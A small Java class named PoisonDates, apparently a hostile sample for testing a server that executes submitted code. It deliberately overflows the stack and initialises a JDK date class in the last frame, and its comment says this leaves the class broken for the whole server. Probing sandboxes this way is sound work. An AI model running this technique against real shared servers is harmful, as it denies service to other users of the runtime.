// Exhausts the stack and has a class of the JDK initialised in the last frame: it would stay broken for the server.
import java.time.*;
import org.rpcchain.*;

public class PoisonDates {
    public static NextHop run(State state, Value result) {
        deeper(0);
        return NextHop.end(Value.of("escaped"));
    }

    private static int deeper(int n) {
        try {
            return deeper(n + 1) + 1;
        } catch (StackOverflowError e) {
            return LocalDate.of(2026, 1, 1).plusDays(n).getDayOfYear();
        }
    }
}
